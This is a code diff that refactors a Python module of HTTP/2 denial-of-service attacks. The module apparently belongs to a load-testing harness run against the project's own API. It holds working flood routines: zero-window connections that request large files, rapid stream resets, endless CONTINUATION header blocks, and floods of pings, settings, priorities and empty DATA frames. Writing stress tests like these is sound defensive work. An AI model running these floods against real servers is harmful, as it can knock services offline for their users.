@@ -5,7 +5,7 @@ import struct
 from collections.abc import Awaitable, Callable
 
 import http2
-from attacks import attack
+from attacks import attack, variant
 from load import Connection, Target, all_of
 
 BUNDLE = "/api/docs/swagger-ui-bundle.js"
@@ -38,23 +38,31 @@ def requests(target: Target, path: str, count: int = STREAMS, token: str | None 
     return b"".join(http2.frame(http2.HEADERS, flags, 2 * number + 1, block) for number in range(count))
 
 
-@attack("b")
-async def closed_windows(target: Target) -> None:
-    """6 connections with a window of 0 that ask 120 times for the largest file"""
-    await session(target, 6, lambda connection: connection.send(requests(target, BUNDLE)), window=0)
-
-
-@attack("b")
-async def many_closed_windows(target: Target) -> None:
-    """40 connections with a window of 0 that ask 100 times for the contract"""
-    await session(target, 40, lambda connection: connection.send(requests(target, "/api/openapi.json", 100)), window=0)
-
-
-@attack("b", hoarder=True)
-async def closed_windows_of_lists(target: Target) -> None:
-    """6 connections with a window of 0 that ask 100 times for a list of thousands of sessions"""
-    wanted = requests(target, "/api/sessions", 100, target.hoarder.token)
-    await session(target, 6, lambda connection: connection.send(wanted), window=0)
+@variant(
+    "b",
+    "closed_windows_of_lists",
+    "6 connections with a window of 0 that ask 100 times for a list of thousands of sessions",
+    6,
+    lambda target: requests(target, "/api/sessions", 100, target.hoarder.token),
+    hoarder=True,
+)
+@variant(
+    "b",
+    "many_closed_windows",
+    "40 connections with a window of 0 that ask 100 times for the contract",
+    40,
+    lambda target: requests(target, "/api/openapi.json", 100),
+)
+@variant(
+    "b",
+    "closed_windows",
+    "6 connections with a window of 0 that ask 120 times for the largest file",
+    6,
+    lambda target: requests(target, BUNDLE),
+)
+async def unread_answers(target: Target, connections: int, wanted: Callable[[Target], bytes]) -> None:
+    frames = wanted(target)
+    await session(target, connections, lambda connection: connection.send(frames), window=0)
 
 
 @attack("b")
@@ -83,92 +91,93 @@ async def windows_that_open_and_close(target: Target) -> None:
     await session(target, 8, work, window=0)
 
 
-@attack("i")
-async def rapid_resets(target: Target) -> None:
-    """requests that are reset at once"""
+@variant(
+    "i",
+    "resets_by_the_server",
+    "frames that make the server reset its streams",
+    "/api/server/ping",
+    lambda stream: http2.window_update(stream, 0),
+    False,
+)
+@variant(
+    "i",
+    "rapid_resets",
+    "requests that are reset at once",
+    "/api/users/me",
+    lambda stream: http2.frame(http2.RESET, 0, stream, struct.pack(">I", 8)),
+    True,
+)
+async def resets(target: Target, path: str, reset: Callable[[int], bytes], with_token: bool) -> None:
+    """Requests, each followed by a frame that ends its stream."""
+    block = http2.head(target, "GET", path, token=target.user.token if with_token else None)
 
     async def work(connection: Connection) -> None:
-        block = http2.head(target, "GET", "/api/users/me", token=target.user.token)
-        cancel = struct.pack(">I", 8)
         stream = 1
         while stream < 1 << 30:
             frames = []
             for stream in range(stream, stream + 200, 2):
                 frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block))
-                frames.append(http2.frame(http2.RESET, 0, stream, cancel))
+                frames.append(reset(stream))
             stream += 2
             await connection.send(b"".join(frames))
 
     await session(target, 8, work)
 
 
-@attack("i")
-async def resets_by_the_server(target: Target) -> None:
-    """frames that make the server reset its streams"""
+def head_of_get(target: Target) -> bytes:
+    return http2.frame(http2.HEADERS, 0, 1, http2.head(target, "GET", "/api/server/ping"))
+
+
+def head_of_login(target: Target) -> bytes:
+    block = http2.head(target, "POST", "/api/auth/login", ("content-type", "application/json"))
+    return http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
+
+
+def priorities() -> bytes:
+    payload = struct.pack(">IB", 0, 1)
+    return b"".join(http2.frame(http2.PRIORITY, 0, stream, payload) for stream in range(1, 1_000, 2))
+
+
+@variant(
+    "i",
+    "empty_data",
+    "empty DATA frames without end",
+    lambda: http2.frame(http2.DATA, 0, 1) * 1_000,
+    head_of_login,
+)
+@variant("i", "priorities", "priorities of streams that do not exist", priorities)
+@variant("i", "settings_frames", "settings", lambda: http2.settings(window=65_535) * 500)
+@variant("i", "pings", "pings", lambda: http2.frame(http2.PING, payload=bytes(8)) * 500)
+@variant(
+    "i",
+    "empty_continuations",
+    "header blocks of empty frames without end",
+    lambda: http2.frame(http2.CONTINUATION, 0, 1) * 1_000,
+    head_of_get,
+)
+@variant(
+    "i",
+    "continuations",
+    "header blocks without end",
+    lambda: http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "v" * 1_000)) * 16,
+    head_of_get,
+    16,
+)
+async def repeated_frames(
+    target: Target,
+    frames: Callable[[], bytes],
+    first: Callable[[Target], bytes] = lambda _: b"",
+    connections: int = 8,
+) -> None:
+    """The same frames again and again, after those that `first` returns."""
+    data = frames()
 
     async def work(connection: Connection) -> None:
-        block = http2.head(target, "GET", "/api/server/ping")
-        stream = 1
-        while stream < 1 << 30:
-            frames = []
-            for stream in range(stream, stream + 200, 2):
-                frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block))
-                frames.append(http2.window_update(stream, 0))
-            stream += 2
-            await connection.send(b"".join(frames))
-
-    await session(target, 8, work)
-
-
-async def repeated(target: Target, data: bytes, connections: int = 8, first: bytes = b"") -> None:
-    async def work(connection: Connection) -> None:
-        await connection.send(first)
+        await connection.send(first(target))
         while True:
             await connection.send(data)
 
     await session(target, connections, work)
-
-
-@attack("i")
-async def continuations(target: Target) -> None:
-    """header blocks without end"""
-    first = http2.frame(http2.HEADERS, 0, 1, http2.head(target, "GET", "/api/server/ping"))
-    more = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "v" * 1_000)) * 16
-    await repeated(target, more, connections=16, first=first)
-
-
-@attack("i")
-async def empty_continuations(target: Target) -> None:
-    """header blocks of empty frames without end"""
-    first = http2.frame(http2.HEADERS, 0, 1, http2.head(target, "GET", "/api/server/ping"))
-    await repeated(target, http2.frame(http2.CONTINUATION, 0, 1) * 1_000, first=first)
-
-
-@attack("i")
-async def pings(target: Target) -> None:
-    """pings"""
-    await repeated(target, http2.frame(http2.PING, payload=bytes(8)) * 500)
-
-
-@attack("i")
-async def settings_frames(target: Target) -> None:
-    """settings"""
-    await repeated(target, http2.settings(window=65_535) * 500)
-
-
-@attack("i")
-async def priorities(target: Target) -> None:
-    """priorities of streams that do not exist"""
-    frames = [http2.frame(http2.PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in range(1, 1_000, 2)]
-    await repeated(target, b"".join(frames))
-
-
-@attack("i")
-async def empty_data(target: Target) -> None:
-    """empty DATA frames without end"""
-    block = http2.head(target, "POST", "/api/auth/login", ("content-type", "application/json"))
-    first = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
-    await repeated(target, http2.frame(http2.DATA, 0, 1) * 1_000, first=first)
 
 
 @attack("i")
